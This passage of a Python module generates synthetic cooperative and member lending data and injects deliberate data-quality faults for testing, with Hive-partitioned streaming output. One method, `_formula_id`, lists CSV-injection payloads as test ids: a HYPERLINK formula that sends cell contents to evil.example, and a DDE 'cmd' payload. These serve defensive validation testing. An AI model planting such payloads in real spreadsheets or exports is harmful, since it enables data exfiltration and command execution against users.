        return _replace(table, "entity_id", rows, pc.if_else(is_coop, fake_coops, fake_members))

    def _unknown_cooperative(self, table, rows):
        return _replace(table, "cooperative_id", rows, _unknown_ids("HTX", self.n_coops, len(rows), 6))

    def _unknown_application(self, table, rows):
        return _replace(table, "application_id", rows, _unknown_ids("HS", self.n_loans, len(rows), 8))

    def _unknown_loan(self, table, rows):
        return _replace(table, "loan_id", rows, _unknown_ids("KV", self.n_loans, len(rows), 8))

    def _missing(self, table, rows):
        """A null in one required column per row (round robin over the required non-key columns)."""
        contract = CONTRACTS[_table_name(table)]
        required = [f for f in contract.fields if not f.nullable and f.name not in contract.key]
        for i, f in enumerate(required):
            part = rows[i::len(required)]
            if len(part):
                table = _replace(table, f.name, part, pa.nulls(len(part), _ARROW[f.dtype]))
        return table

    def _invalid_channel(self, table, rows):
        bad = np.array(["momo", "Cash", "bank", "unknown"])[self.rng.integers(0, 4, len(rows))]
        return _replace(table, "channel", rows, pa.array(bad))

    def _invalid_status(self, table, rows):
        return _replace(table, "status", rows, pa.array(np.full(len(rows), "draft")))

    def _province_typo(self, table, rows):
        right = table.column("province").take(pa.array(rows))
        return _replace(table, "province", rows, _unaccented(right))

    def _formula_id(self, table, rows):
        """Ids a spreadsheet would run as formulas (CSV injection), or that a feed mangled."""
        bad = np.array(['=HYPERLINK("http://evil.example/?d="&A1,"HS00000001")', "+cmd|' /C calc'!A0",
                        "-2+3", "@SUM(1+1)", "\tHS00000001", "HS00000001\r\n", "hs00000001",
                        "HS 00000001"])
        return _replace(table, "application_id", rows, pa.array(bad[np.arange(len(rows)) % len(bad)]))

    def _unknown_lender(self, table, rows):
        bad = np.array(["ngan-hang-la", "Demo-Bank", "quy-htx-ha-tay"])
        return _replace(table, "lender_id", rows, pa.array(bad[self.rng.integers(0, len(bad), len(rows))]))

    def _over_limit(self, table, rows):
        above = self.rng.integers(1, 1000, len(rows)) * 10**6
        return _replace(table, "requested_amount_vnd", rows, v.UNSECURED_LIMIT_VND["cooperative"] + above)


def _unknown_ids(prefix: str, existing: int, k: int, width: int) -> pa.Array:
    """Ids past the last one issued (one digit wider if the width is used up): surely unknown."""
    if existing + k >= 10**width:
        width += 1
    return _ids(prefix, existing + 1 + np.arange(k), width)


def _table_name(table: pa.Table) -> str:
    columns = set(table.column_names)
    return next(name for name, c in CONTRACTS.items() if set(c.columns) == columns)


def _amount_column(table: pa.Table) -> str:
    return next(c for c in ("amount_vnd", "total_vnd", "amount_paid_vnd", "principal_vnd")
                if c in table.column_names)


def _time_column(table: pa.Table) -> str:
    return next(c for c in ("ts", "issued_at") if c in table.column_names)


DIRT_PLAN: dict[str, dict[str, tuple[float, int]]] = {
    "transactions": {"duplicate": (0.004, 5), "negative_amount": (0.0015, 3), "absurd_amount": (0.0005, 2),
                     "future_ts": (0.001, 2), "unknown_entity": (0.001, 2), "missing": (0.001, 3),
                     "invalid_channel": (0.001, 2)},
    "e_invoices": {"duplicate": (0.002, 2), "negative_amount": (0.0005, 1), "absurd_amount": (0.0002, 1),
                   "future_ts": (0.0005, 1), "unknown_entity": (0.0005, 1), "missing": (0.0005, 1),
                   "invalid_status": (0.0005, 1)},
    "members": {"duplicate": (0.001, 2), "province_typo": (0.001, 2), "unknown_cooperative": (0.0005, 1),
                "missing": (0.0005, 1)},
    "cooperatives": {"duplicate": (0.0, 1), "province_typo": (0.0, 1), "missing": (0.0, 1)},
    "loan_applications": {"duplicate": (0.002, 2), "unknown_entity": (0.001, 1), "missing": (0.001, 1),
                          "over_limit": (0.001, 1), "formula_id": (0.0005, 2), "unknown_lender": (0.0005, 1)},
    "loans": {"duplicate": (0.002, 2), "unknown_application": (0.001, 1), "missing": (0.001, 1)},
    "repayments": {"duplicate": (0.001, 2), "unknown_loan": (0.0005, 1), "negative_amount": (0.0005, 1),
                   "missing": (0.0005, 1)},
}


def inject_dirt(tables: dict[str, pa.Table], rng: np.random.Generator, cal: Calendar,
                n_members: int, n_coops: int, n_loans: int | None = None) -> dict[str, dict[str, int]]:
    """Dirty the tables in place (those of DIRT_PLAN that are given, in its order); returns the
    count of rows per table and kind of dirt.

    Unknown application and loan ids are numbered past `n_loans`, by default the larger of the
    loans and applications tables (declined applications have no loan)."""
    if n_loans is None:
        n_loans = max(tables["loans"].num_rows, tables["loan_applications"].num_rows)
    dirt = Dirt(rng, cal, n_members, n_coops, n_loans)
    for name, plan in DIRT_PLAN.items():
        if name in tables:
            tables[name] = dirt.apply(name, tables[name], plan)
    return dirt.counts


# ----------------------------------------------------------------------------------------------
# The whole data set
# ----------------------------------------------------------------------------------------------
# generate(stream=True): what is written in parts, how many entities a part is made from, and the
# size above which the in-memory path suggests it (its peak is ~170 bytes per transaction: about
# 4 GB at 200,000 members).
STREAMED_TABLES = ("transactions", "e_invoices")
STREAM_CHUNK_ENTITIES = 50_000
SUGGEST_STREAM_ABOVE = 200_000
NULL_PARTITION = "__HIVE_DEFAULT_PARTITION__"  # Hive's, Spark's and pyarrow's name for a null value


@dataclass
class Population:
    """What the transactions are drawn from, and the small tables: one row per cooperative,
    member, entity (members first, then cooperatives), application, loan or repayment."""
    cal: Calendar
    coops: pd.DataFrame
    people: pd.DataFrame
    ent: pd.DataFrame
    shocks: np.ndarray  # (entity, month) sales factors
    apps: pd.DataFrame
    loans: pd.DataFrame
    repayments: pd.DataFrame
    entity_ids: pa.Array
    salt: int  # of the counterparty hashes

    @property
    def province(self) -> np.ndarray:
        """Per entity, its province's index in vocabulary.PROVINCES."""
        return np.r_[self.people.province.to_numpy(), self.coops.province.to_numpy()]


def make_population(seed: int, members: int, n_coops: int, cal: Calendar, past_policy_decline_share: float,
                    random_accept_share: float, shift: shifts.Shift | None,
                    report: Progress) -> Population:
    """Steps 1-4 and 7-10 of the module docstring: everything but the transactions and e-invoices."""
    salt = int(np.random.default_rng([seed, 7]).integers(0, 2**63))
    report("cooperatives and members", 0.0)
    coops = make_cooperatives(_rng(seed, "cooperatives"), n_coops, cal)
    people = make_members(_rng(seed, "members"), members, coops, cal)
    coops = finish_cooperatives(coops, people)
    ent = make_behaviour(_rng(seed, "behaviour"), people, coops, cal)
    shocks = shock_factors(ent, cal.months)
    ent, shocks, cal, people, coops = shifts.inject(shift, ent, shocks, cal, people, coops)

    report("loan applications", 0.02)
    old_apps, old_loans, old_repayments = make_legacy_book(
        _rng(seed, "legacy book"), ent, np.r_[people.joined, coops.founding], shocks, cal)
    earlier_default = np.full(len(ent), np.iinfo(np.int64).max)
    np.minimum.at(earlier_default, old_loans.entity.to_numpy(), old_loans.default_day.to_numpy())
    apps = make_loan_applications(_rng(seed, "applications"), ent, shocks, cal)
    loans = make_loans(_rng(seed, "loans"), apps, ent, cal)
    if past_policy_decline_share > 0:  # its own stream: the other draws stay as they were
        apps["decision"], apps["policy_score"] = past_policy(
            _rng(seed, "past policy"), apps, ent, past_policy_decline_share, random_accept_share)
        loans["funded"] = apps["decision"].to_numpy() != DECLINED
        # a declined application has no loan, so no default that could stop a later application
        loans["default_day"] = np.where(loans.funded, loans.default_day, np.iinfo(np.int64).max)
    keep = drop_after_default(apps, loans, earlier_default)
    apps, loans = apps[keep], loans[keep]
    order = np.argsort(apps.date.to_numpy(), kind="stable")  # ids in time order
    apps, loans = apps.iloc[order].reset_index(drop=True), loans.iloc[order].reset_index(drop=True)
    repayments = make_repayments(_rng(seed, "repayments"), loans, ent, cal)
    if "funded" in loans:  # a declined application's would-be loan never repays anything
        repayments = repayments[loans.funded.to_numpy()[repayments.loan.to_numpy()]].reset_index(drop=True)
        old_apps["decision"], old_apps["policy_score"] = FUNDED, np.nan  # the legacy book was funded
        old_loans["funded"] = True
    # the legacy book first: all of it is older, so ids stay in time order
    repayments["loan"] += len(old_loans)
    apps = pd.concat([old_apps, apps], ignore_index=True)
    loans = pd.concat([old_loans, loans], ignore_index=True)
    repayments = pd.concat([old_repayments, repayments], ignore_index=True)
    # its own stream: adding lenders changed no other draw
    apps["lender"] = _rng(seed, "lenders").choice(len(LENDER_P), len(apps), p=LENDER_P).astype(np.int8)
    return Population(cal, coops, people, ent, shocks, apps, loans, repayments,
                      _entity_ids(members, n_coops), salt)


def population_tables(pop: Population) -> dict[str, pa.Table]:
    """The tables that come from the population alone: cooperatives, members, loan applications,
    loans, repayments and the true PD."""
    members = len(pop.people)
    member_ids, coop_ids = pop.entity_ids.slice(0, members), pop.entity_ids.slice(members)
    tables = {"cooperatives": cooperatives_table(pop.coops, coop_ids),
              "members": members_table(pop.people, pop.coops, member_ids, coop_ids)}
    tables.update(loan_tables(pop.apps, pop.loans, pop.repayments, pop.ent, pop.entity_ids))
    return tables


def merged_in_time(tx: dict[str, np.ndarray], flows: dict[str, np.ndarray]) -> dict[str, np.ndarray]:
    """The entities' own transactions and their loans' money (`loan_transactions`) in one time
    order. Both inputs are emptied, so that their memory is free before the sort's copy is made."""
    rows = {k: np.concatenate([tx[k], flows[k]]) for k in flows}
    tx.clear()
    flows.clear()
    return in_time_order(rows)


def in_time_order(rows: dict[str, np.ndarray]) -> dict[str, np.ndarray]:
    """The rows sorted by their time `ts` (stable: rows of the same time keep their order)."""
    order = np.argsort(rows["ts"], kind="stable")
    return {k: a[order] for k, a in rows.items()}


def generate(out_dir: Path, members: int, seed: int = 42, cooperatives: int | None = None,
             start: date = date(2022, 1, 1), months: int = 48, dirty: bool = False,
             progress: Progress | None = None, past_policy_decline_share: float = 0.0,
             random_accept_share: float = 0.02,
             shift: shifts.Shift | None = None, stream: bool = False,
             chunk_entities: int = STREAM_CHUNK_ENTITIES) -> GenerationSummary:
    """Write one Parquet file per contract table into out_dir; see the module docstring.

    `past_policy_decline_share` > 0 turns on a lender's past policy (step 10): that share of the
    in-window applications is declined by an older score plus noise, and `random_accept_share` of
    the would-be declines is funded at random. At 0 (the default) every application is funded and
    the data is exactly what it was without the option. `shift` (coopscore.shifts) changes the
    population from its month on (None: no change).

    `stream=True` writes the transactions and e-invoices in bounded memory, as folders of Parquet
    parts partitioned by month and province (`generate_streamed`); the other tables are the same
    files, identical to those of the in-memory path when `dirty` is off. Either layout replaces
    the other's leftovers of those two tables in out_dir. Raises ValueError for arguments out of
    range."""
    started = time.perf_counter()
    report = progress or (lambda step, fraction: None)
    n_coops = max(5, members // 250) if cooperatives is None else cooperatives
    _check_arguments(members, n_coops, start, months)
    if not 0.0 <= past_policy_decline_share < 1.0:
        raise ValueError(f"past_policy_decline_share must be in [0, 1), got {past_policy_decline_share}")
    if not 0.0 <= random_accept_share <= 1.0:
        raise ValueError(f"random_accept_share must be in [0, 1], got {random_accept_share}")
    if chunk_entities < 1:
        raise ValueError(f"chunk_entities must be at least 1, got {chunk_entities}")
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    _remove_streamed_tables(out_dir)
    pop = make_population(seed, members, n_coops, make_calendar(start, months), past_policy_decline_share,
                          random_accept_share, shift, report)
    if stream:
        rows, dirt = generate_streamed(out_dir, pop, seed, dirty, chunk_entities, report)
        return GenerationSummary(out_dir, rows, dirt, time.perf_counter() - started)
    cal, ent = pop.cal, pop.ent

    report("transactions" if members <= SUGGEST_STREAM_ABOVE else
           f"transactions, all in memory (above {SUGGEST_STREAM_ABOVE:,} members, --stream / stream=True "
           f"writes them in bounded memory)", 0.03)
    tx = merged_in_time(make_transactions(_rng(seed, "transactions"), ent, cal, pop.shocks, pop.salt),
                        loan_transactions(_rng(seed, "loan flows"), pop.loans, pop.repayments, cal, pop.salt))

    report("e-invoices", 0.32)
    inv = in_time_order(make_e_invoices(_rng(seed, "e-invoices"), tx, ent))

    report("building tables", 0.34)
    tables = population_tables(pop)
    tables["e_invoices"] = e_invoices_table(inv, ent, pop.entity_ids)
    del inv
    report("building the transactions table", 0.38)
    tables["transactions"] = transactions_table(tx, ent, pop.entity_ids)
    del tx

    dirt: dict[str, dict[str, int]] = {}
    if dirty:
        report("injecting dirt", 0.70)
        dirt = inject_dirt(tables, _rng(seed, "dirt"), cal, members, n_coops)

    rows = {name: tables[name].num_rows for name in CONTRACTS}
    written, total = 0, sum(rows.values())
    for name in CONTRACTS:  # writing time goes with the rows
        report(f"writing {name}", 0.75 + 0.25 * written / total)
        pq.write_table(tables[name], out_dir / f"{name}.parquet")
        written += rows[name]
    report("done", 1.0)
    return GenerationSummary(out_dir, rows, dirt, time.perf_counter() - started)


# ----------------------------------------------------------------------------------------------
# Streaming: the transactions and e-invoices chunk by chunk
# ----------------------------------------------------------------------------------------------
def generate_streamed(out_dir: Path, pop: Population, seed: int, dirty: bool, chunk_entities: int,
                      report: Progress) -> tuple[dict[str, int], dict[str, dict[str, int]]]:
    """Write the population's tables as files, then the transactions and e-invoices chunk by chunk
    of entities (`stream_chunks`: one province at a time, at most `chunk_entities` entities), each
    chunk through the same functions as the in-memory path (make_transactions, loan_transactions,
    make_e_invoices, the table builders, inject_dirt) on its own entity rows and shock rows, with
    its own random streams `_rng(seed, "<step> chunk <i>")`. Returns the rows per table and the dirt
    per table and kind.

    The layout is Hive's: `transactions/month=2024-03/province=An Giang/part-00012.parquet` (the
    same for `e_invoices/`), the month of each row's own time, the province of the entity the chunk
    was drawn for; DuckDB (`read_parquet(..., hive_partitioning = true)`), Spark and pyarrow read
    the folder as one table, and ingest reads it as delivered rows. The partition values are not
    contract columns: the files hold exactly the contract's columns. A chunk's e-invoice and
    transaction ids continue the previous chunk's numbers, so ids are unique over the table, but
    not in time order across chunks.

    What differs from the in-memory path: the transactions and e-invoices are other draws of the
    same model (another stream per chunk); with `dirty`, the small tables' dirt is drawn on the
    same "dirt" stream but without the two big tables before them, so it falls on other rows, and
    each chunk gets the dirt plan's minimum counts of its own."""
    cal, ent = pop.cal, pop.ent
    members, n_coops = len(pop.people), len(pop.coops)
    report("building the population's tables", 0.03)
    tables = population_tables(pop)
    n_loans = max(tables["loans"].num_rows, tables["loan_applications"].num_rows)
    dirt: dict[str, dict[str, int]] = {}
    if dirty:
        dirt = inject_dirt(tables, _rng(seed, "dirt"), cal, members, n_coops)
    rows = {name: 0 for name in CONTRACTS}
    for name, table in tables.items():
        pq.write_table(table, out_dir / f"{name}.parquet")
        rows[name] = table.num_rows
    del tables

    report("loan flows", 0.06)
    # the loans' money, drawn once for every loan like the in-memory path, then dealt to the chunks
    flows = loan_transactions(_rng(seed, "loan flows"), pop.loans, pop.repayments, cal, pop.salt)
    chunks = stream_chunks(pop.province, chunk_entities)
    chunk_of = np.empty(len(ent), np.int64)
    for i, (_, entities) in enumerate(chunks):
        chunk_of[entities] = i
    flows = in_chunk_order(flows, chunk_of)
    flow_bounds = np.searchsorted(chunk_of[flows["e"]], np.arange(len(chunks) + 1))
    local = np.zeros(len(ent), np.int32)  # an entity's row within its chunk
    next_id = {name: 1 for name in STREAMED_TABLES}
    done = 0
    for i, (province, entities) in enumerate(chunks):
        report(f"transactions: chunk {i + 1:,} of {len(chunks):,} ({v.PROVINCES[province]})",
               0.08 + 0.92 * done / len(ent))
        part = ent.iloc[entities]  # keeps the entities' numbers as its index
        local[entities] = np.arange(len(entities), dtype=np.int32)
        own = {k: a[flow_bounds[i]:flow_bounds[i + 1]] for k, a in flows.items()}
        own["e"] = local[own["e"]]
        tx = merged_in_time(
            make_transactions(_rng(seed, f"transactions chunk {i}"), part, cal, pop.shocks[entities], pop.salt), own)
        inv = in_time_order(make_e_invoices(_rng(seed, f"e-invoices chunk {i}"), tx, part))
        ids = pop.entity_ids.take(pa.array(entities))
        chunk_tables = {"transactions": transactions_table(tx, part, ids, next_id["transactions"]),
                        "e_invoices": e_invoices_table(inv, part, ids, next_id["e_invoices"])}
        del tx, inv
        for name, table in chunk_tables.items():
            next_id[name] += table.num_rows
        if dirty:
            counts = inject_dirt(chunk_tables, _rng(seed, f"dirt chunk {i}"), cal, members, n_coops, n_loans)
            for name, kinds in counts.items():
                so_far = dirt.setdefault(name, {})
                for kind, n in kinds.items():
                    so_far[kind] = so_far.get(kind, 0) + n
        for name, table in chunk_tables.items():
            write_partitioned(table, out_dir / name, _time_column(table), v.PROVINCES[province], i)
            rows[name] += table.num_rows
        del chunk_tables
        done += len(entities)
    report("done", 1.0)
    return rows, dirt


def stream_chunks(province: np.ndarray, chunk_entities: int) -> list[tuple[int, np.ndarray]]:
    """The entities in chunks: (province index, entity numbers), province by province in the
    order of vocabulary.PROVINCES, each province cut into near-equal chunks of at most
    `chunk_entities`, entities in their order."""
    order = np.argsort(province, kind="stable")
    bounds = np.searchsorted(province[order], np.arange(len(v.PROVINCES) + 1))
    chunks = []
    for p in range(len(v.PROVINCES)):
        mine = order[bounds[p]:bounds[p + 1]]
        if len(mine):
            chunks.extend((p, piece) for piece in np.array_split(mine, -(-len(mine) // chunk_entities)))
    return chunks


def in_chunk_order(rows: dict[str, np.ndarray], chunk_of: np.ndarray) -> dict[str, np.ndarray]:
    """The rows sorted by the chunk of their entity `e` (stable: each chunk's rows keep their order)."""
    order = np.argsort(chunk_of[rows["e"]], kind="stable")
    return {k: a[order] for k, a in rows.items()}


def write_partitioned(table: pa.Table, directory: Path, time_column: str, province: str, part: int) -> None:
    """Write one chunk's rows under `directory`, Hive-style: month=YYYY-MM/province=<province>/
    part-<part>.parquet, by the month of each row's own `time_column` (a row without a time under
    month=__HIVE_DEFAULT_PARTITION__). Rows keep their order within a file."""
    times = table.column(time_column)
    valid = pc.is_valid(times).to_numpy(zero_copy_only=False)
    ns = pc.fill_null(times.cast(pa.int64()), 0).to_numpy()
    month = np.where(valid, ns.astype("datetime64[ns]").astype("datetime64[M]").astype(np.int64),
                     np.iinfo(np.int64).max)
    order = np.argsort(month, kind="stable")
    starts = np.r_[0, np.flatnonzero(np.diff(month[order])) + 1, len(order)]
    for lo, hi in zip(starts[:-1], starts[1:]):
        if lo == hi:
            continue
        key = month[order[lo]]
        label = NULL_PARTITION if key == np.iinfo(np.int64).max else str(np.datetime64(int(key), "M"))
        folder = directory / f"month={label}" / f"province={province}"
        folder.mkdir(parents=True, exist_ok=True)
        pq.write_table(table.take(pa.array(order[lo:hi])), folder / f"part-{part:05d}.parquet")


def _remove_streamed_tables(out_dir: Path) -> None:
    """Remove an earlier run's transactions and e-invoices, in either layout, so that a folder never
    holds both a file and a folder of parts for one table (ingest refuses that), nor stale parts."""
    for name in STREAMED_TABLES:
        (out_dir / f"{name}.parquet").unlink(missing_ok=True)
        if (out_dir / name).is_dir():
            shutil.rmtree(out_dir / name)


def _check_arguments(members: int, cooperatives: int, start: date, months: int) -> None:
    if not 1 <= members <= 9_999_999:
        raise ValueError(f"members must be between 1 and 9,999,999 (ids are TV + 7 digits), "
                         f"got {members}")
    if not 1 <= cooperatives <= 999_999:
        raise ValueError(f"cooperatives must be between 1 and 999,999, got {cooperatives}")
    if start.day != 1:
        raise ValueError(f"start must be the first day of a month, got {start}")
    if months < 25:
        raise ValueError(f"months must be at least 25 (12 of history, 1 to apply, 12 of outcome), "
                         f"got {months}")
